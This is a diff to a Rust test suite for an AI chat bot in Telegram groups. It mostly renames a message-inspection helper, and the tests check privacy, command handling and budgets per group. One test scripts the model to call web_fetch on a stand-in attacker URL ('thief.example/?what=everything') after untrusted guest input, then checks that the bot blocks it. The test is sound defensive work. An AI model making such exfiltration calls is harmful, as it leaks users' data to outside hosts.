@@ -40,13 +40,13 @@ fn bot(story: &Story) -> String {
 async fn only_what_names_it_or_answers_it_is_answered_and_kept() {
     let story = family().await;
     say_in(&story, FAMILY, ADA, "who brings the cake?").await;
-    assert_eq!((story.model.asked(), story.heard(FAMILY).len()), (0, 0), "people talk to each other");
+    assert_eq!((story.model.asked(), story.received_by(FAMILY).len()), (0, 0), "people talk to each other");
     say_in(&story, FAMILY, ADA, &format!("{} how many eggs?", bot(&story))).await;
-    assert_eq!(story.heard(FAMILY), ["ok"]);
+    assert_eq!(story.received_by(FAMILY), ["ok"]);
     let answer = story.fake.sent(FAMILY)[0].message_id;
     story.fake.from(BEN).in_chat(FAMILY).text("and how much flour?").reply_to(answer).send();
     story.answered().await;
-    assert_eq!(story.heard(FAMILY).len(), 2, "a reply to it is meant for it");
+    assert_eq!(story.received_by(FAMILY).len(), 2, "a reply to it is meant for it");
     story
         .fake
         .from(BEN)
@@ -55,7 +55,7 @@ async fn only_what_names_it_or_answers_it_is_answered_and_kept() {
         .reply_to(story.fake.says_in(FAMILY, ADA, "eggs!"))
         .send();
     say_in(&story, FAMILY, ADA, "@somebody_else do you?").await;
-    assert_eq!(story.heard(FAMILY).len(), 2, "replies to each other are not");
+    assert_eq!(story.received_by(FAMILY).len(), 2, "replies to each other are not");
     assert_eq!(story.count("SELECT count(*) FROM texts WHERE text LIKE '%cake%' OR text LIKE '%eggs!%'"), 0);
     assert_eq!(story.count("SELECT count(*) FROM inbox WHERE raw LIKE '%cake%'"), 0, "what is not for it is not kept");
     story.end().await;
@@ -87,8 +87,8 @@ async fn a_group_that_is_not_allowed_hears_nothing_and_the_owner_is_told_once_ho
     for person in [EVE, BEN, ADA, ADA] {
         say_in(&story, OTHERS, person, &format!("{} hello", bot(&story))).await;
     }
-    assert_eq!((story.model.asked(), story.heard(OTHERS).len(), story.heard(BEN).len()), (0, 0, 0));
-    let told = story.heard(ADA).split_off(1);
+    assert_eq!((story.model.asked(), story.received_by(OTHERS).len(), story.received_by(BEN).len()), (0, 0, 0));
+    let told = story.received_by(ADA).split_off(1);
     assert!(told.len() == 1 && told[0].contains(&format!("\"telegram:{OTHERS}\"")), "{told:?}");
     assert_eq!(story.count("SELECT count(*) FROM messages WHERE kind = 'said'"), 0);
     story.end().await;
@@ -108,7 +108,7 @@ async fn a_group_knows_nothing_of_a_person_nor_a_person_of_a_group() {
     assert_eq!(story.count("SELECT count(DISTINCT scope) FROM conversations"), 3);
     story.model.calls("recall", json!({ "query": "secret" }));
     say_in(&story, FAMILY, BEN, &format!("{} recall it", bot(&story))).await;
-    assert!(!story.heard(FAMILY).join("\n").contains(&canary(ADA)));
+    assert!(!story.received_by(FAMILY).join("\n").contains(&canary(ADA)));
     story.end().await;
 }
 
@@ -118,19 +118,23 @@ async fn a_group_knows_nothing_of_a_person_nor_a_person_of_a_group() {
 async fn commands_are_answered_in_private_and_decisions_count_there_alone() {
     let story = family().await;
     say_in(&story, FAMILY, ADA, &format!("/whoami{}", bot(&story))).await;
-    assert!(story.last_heard(FAMILY).contains("Write to me there first"), "{}", story.last_heard(FAMILY));
+    assert!(story.last_received_by(FAMILY).contains("Write to me there first"), "{}", story.last_received_by(FAMILY));
     story.say(ADA, "/help").await;
     say_in(&story, FAMILY, ADA, &format!("/whoami{}", bot(&story))).await;
-    assert!(story.last_heard(ADA).contains(&ADA.to_string()), "{}", story.last_heard(ADA));
-    assert!(!story.heard(FAMILY).join("\n").contains(&ADA.to_string()));
+    assert!(story.last_received_by(ADA).contains(&ADA.to_string()), "{}", story.last_received_by(ADA));
+    assert!(!story.received_by(FAMILY).join("\n").contains(&ADA.to_string()));
     say_in(&story, FAMILY, ADA, &format!("/pair{} Zoe", bot(&story))).await;
-    assert!(story.last_heard(ADA).contains("only here"), "{}", story.last_heard(ADA));
+    assert!(story.last_received_by(ADA).contains("only here"), "{}", story.last_received_by(ADA));
     assert_eq!(story.count("SELECT count(*) FROM pairing_codes"), 0);
-    let heard = story.heard(FAMILY).len();
+    let heard = story.received_by(FAMILY).len();
     for line in ["/status", "/new", "/stop", "/yes 1", "/approve 1 aaaaaaaa"] {
         say_in(&story, FAMILY, EVE, &format!("{line}{}", bot(&story))).await;
     }
-    assert_eq!((story.heard(FAMILY).len(), story.heard(EVE).len()), (heard, 0), "a guest asks the program for nothing");
+    assert_eq!(
+        (story.received_by(FAMILY).len(), story.received_by(EVE).len()),
+        (heard, 0),
+        "a guest asks the program for nothing"
+    );
     story.end().await;
 }
 
@@ -183,10 +187,10 @@ async fn an_upgraded_group_goes_on() {
     story.answered().await;
     say_in(&story, LARGER, ADA, &format!("{} what colour is it?", bot(&story))).await;
     assert!(story.model.last_prompt().contains("the cake is green"), "{}", story.model.last_prompt());
-    assert_eq!(story.heard(LARGER).len(), 1);
+    assert_eq!(story.received_by(LARGER).len(), 1);
     story.restart().await;
     say_in(&story, LARGER, BEN, &format!("{} and now?", bot(&story))).await;
-    assert_eq!(story.heard(LARGER).len(), 2, "the configuration goes on naming the old one");
+    assert_eq!(story.received_by(LARGER).len(), 2, "the configuration goes on naming the old one");
     story.end().await;
 }
 
@@ -199,7 +203,7 @@ async fn what_was_on_its_way_when_the_group_moved_arrives() {
     story.settle().await;
     story.fake.upgrades(FAMILY, LARGER, ADA);
     story.pass(Duration::from_secs(20)).await;
-    assert_eq!((story.heard(FAMILY).len(), story.heard(LARGER).len()), (0, 1));
+    assert_eq!((story.received_by(FAMILY).len(), story.received_by(LARGER).len()), (0, 1));
     story.end().await;
 }
 
@@ -210,7 +214,7 @@ async fn nothing_leaves_a_group_unasked_and_nobody_is_asked_there() {
     let story = family().await;
     story.model.calls("web_fetch", json!({ "url": "https://thief.example/?what=everything" })).says("I could not.");
     say_in(&story, FAMILY, EVE, &format!("{} open it {UNTRUSTED}guest", bot(&story))).await;
-    assert_eq!(story.heard(FAMILY), ["I could not."]);
+    assert_eq!(story.received_by(FAMILY), ["I could not."]);
     assert_eq!(story.count("SELECT count(*) FROM questions"), 0);
     let offered: Vec<String> = story.model.requests()[0].tools().iter().map(|tool| tool.name.clone()).collect();
     for withheld in ["remind", "schedule", "submit_skill", "read_reflection"] {
@@ -231,10 +235,10 @@ async fn nothing_leaves_a_group_unasked_and_nobody_is_asked_there() {
 async fn a_group_has_a_purse_of_its_own() {
     let story = family_with("[budget]\ndaily_tokens = 1000000\nper_group_daily_tokens = 1\n").await;
     say_in(&story, FAMILY, ADA, &format!("{} hello", bot(&story))).await;
-    assert!(story.last_heard(FAMILY).contains("group"), "{}", story.last_heard(FAMILY));
+    assert!(story.last_received_by(FAMILY).contains("group"), "{}", story.last_received_by(FAMILY));
     assert_eq!(story.model.asked(), 0);
     story.say(ADA, &format!("hello {}", canary(ADA))).await;
-    assert_eq!(story.last_heard(ADA), "ok", "what the group has not is not taken from anybody else");
+    assert_eq!(story.last_received_by(ADA), "ok", "what the group has not is not taken from anybody else");
     story.end().await;
 }
 
@@ -257,6 +261,6 @@ async fn whoever_only_says_its_name_is_answered() {
     let story = family().await;
     say_in(&story, FAMILY, ADA, &bot(&story)).await;
     assert!(story.model.last_prompt().contains("They only named you"), "{}", story.model.last_prompt());
-    assert_eq!(story.heard(FAMILY), ["ok"]);
+    assert_eq!(story.received_by(FAMILY), ["ok"]);
     story.end().await;
 }
